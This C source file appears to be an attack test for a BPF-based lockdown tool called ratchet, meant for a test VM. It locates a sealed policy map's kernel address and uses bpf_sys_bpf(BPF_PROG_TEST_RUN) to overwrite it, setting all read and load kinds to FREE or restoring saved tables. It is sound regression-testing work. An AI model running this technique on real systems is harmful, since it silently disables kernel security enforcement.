// SPDX-License-Identifier: GPL-2.0
/*
 * ctxwrite.c - `ratchet-ctxwrite`: rewrite a sealed lock's tables map
 * with no fd to it (ctxwrite.bpf.c): a syscall program of root's runs
 * another through bpf_sys_bpf(BPF_PROG_TEST_RUN) with the tables' kernel
 * address as its context. For tests/vm/attacks/rt3-sysbpf-ctx.sh, in a
 * test VM only.
 *
 *   ratchet-ctxwrite save FILE     the tables (as ratchet_snapshot reads them) into FILE
 *   ratchet-ctxwrite free          every read and load kind FREE, and
 *                                  kernel/ftrace_enabled no knob of ratchet's
 *   ratchet-ctxwrite restore FILE  write FILE's bytes back
 *
 * The tables are read and their map id learnt through ratchet's own
 * ratchet_snapshot, by id, as `ratchet status` does. Prints each step;
 * exit 0 done, 1 a step refused, 2 other.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include "ratchet.h"
#include "attack-ctxwrite.skel.h"

static int step(const char *what, int err)
{
	printf("ctxwrite: %s: %s\n", what, err ? strerror(err) : "ok");
	if (!err)
		return 0;
	return err == EPERM || err == EACCES || err == ENOENT ? 1 : 2;
}

/* A sealed snapshot from a syscall program named like ratchet_snapshot. */
static int snapshot(struct ratchet_snapshot *s)
{
	__u32 id = 0;

	while (!bpf_prog_get_next_id(id, &id)) {
		LIBBPF_OPTS(bpf_test_run_opts, o, .ctx_in = s,
			    .ctx_size_in = sizeof(*s));
		struct bpf_prog_info info = {};
		__u32 len = sizeof(info);
		int fd = bpf_prog_get_fd_by_id(id), ok;

		if (fd < 0)
			continue;
		memset(s, 0, sizeof(*s));
		ok = !bpf_obj_get_info_by_fd(fd, &info, &len) &&
		     info.type == BPF_PROG_TYPE_SYSCALL &&
		     !strcmp(info.name, "ratchet_snapsho") &&
		     !bpf_prog_test_run_opts(fd, &o) && !o.retval &&
		     s->state.pin_dev && s->tables_read;
		close(fd);
		if (ok)
			return 0;
	}
	return -1;
}

/* The kernel address of the value of map @id (iter/bpf_map). */
static int find_addr(struct attack_ctxwrite *s, __u32 id)
{
	struct bpf_link *l;
	char buf[64];
	int it;

	s->bss->want = id;
	l = bpf_program__attach_iter(s->progs.find_tables, NULL);
	if (!l)
		return step("attach a bpf_map iterator", errno);
	it = bpf_iter_create(bpf_link__fd(l));
	if (it < 0)
		return step("create the bpf_map iterator", errno);
	while (read(it, buf, sizeof(buf)) > 0)
		;
	close(it);
	bpf_link__destroy(l);
	printf("ctxwrite: tables map id %u, value at 0x%llx\n", id,
	       (unsigned long long)s->bss->found);
	return s->bss->found ? 0 : step("find the tables' address", ENOENT);
}

/* bpf_sys_bpf(BPF_PROG_TEST_RUN) of ctx_write on the tables' value. */
static int write_tables(__u32 id, const struct ratchet_tables *t)
{
	struct attack_ctxwrite *s = attack_ctxwrite__open_and_load();
	struct {
		__u64 target;
		__u32 prog_fd;
		__s32 ret;
	} a = {};
	/* A syscall program's context is copied back into ctx_in. */
	LIBBPF_OPTS(bpf_test_run_opts, o, .ctx_in = &a,
		    .ctx_size_in = sizeof(a));
	int err;

	if (!s)
		return step("load the syscall programs and the iterator",
			    errno);
	if ((err = find_addr(s, id)))
		return err;
	memcpy(s->bss->newval, t, sizeof(*t));
	a.target = s->bss->found;
	a.prog_fd = bpf_program__fd(s->progs.ctx_write);
	if (bpf_prog_test_run_opts(bpf_program__fd(s->progs.go), &o))
		return step("run the syscall program", errno);
	printf("ctxwrite: bpf_sys_bpf(BPF_PROG_TEST_RUN, ctx_in=0x%llx) "
	       "returned %d\n",
	       (unsigned long long)a.target, a.ret);
	attack_ctxwrite__destroy(s);
	return a.ret ? step("write the tables", -a.ret) : 0;
}

int main(int argc, char **argv)
{
	static struct ratchet_snapshot snap;
	struct ratchet_tables t;
	FILE *f;
	__u32 id;

	if (argc < 2)
		return 2;
	if (snapshot(&snap))
		return step("read the tables through ratchet_snapshot", ENOENT);
	t = snap.tables;
	id = snap.tables_map.id;
	if (!strcmp(argv[1], "save") && argc == 3) {
		f = fopen(argv[2], "we");
		if (!f || fwrite(&t, sizeof(t), 1, f) != 1 || fclose(f))
			return step("save the tables", errno);
		return step("save the tables", 0);
	}
	if (!strcmp(argv[1], "restore") && argc == 3) {
		f = fopen(argv[2], "re");
		if (!f || fread(&t, sizeof(t), 1, f) != 1)
			return step("read the saved tables", errno ?: EIO);
		fclose(f);
	} else if (!strcmp(argv[1], "free")) {
		memset(t.read_kinds, RATCHET_KIND_FREE, sizeof(t.read_kinds));
		memset(t.load_kinds, RATCHET_KIND_FREE, sizeof(t.load_kinds));
		t.sysctl_names[RATCHET_SYSCTL_FTRACE_ENABLED][0] = 'X';
	} else {
		return 2;
	}
	if (write_tables(id, &t))
		return 1;
	if (snapshot(&snap))
		return step("read the tables back", ENOENT);
	return step("the sealed tables now hold what was written (read by "
		    "ratchet_snapshot)",
		    memcmp(&snap.tables, &t, sizeof(t)) ? EIO : 0);
}
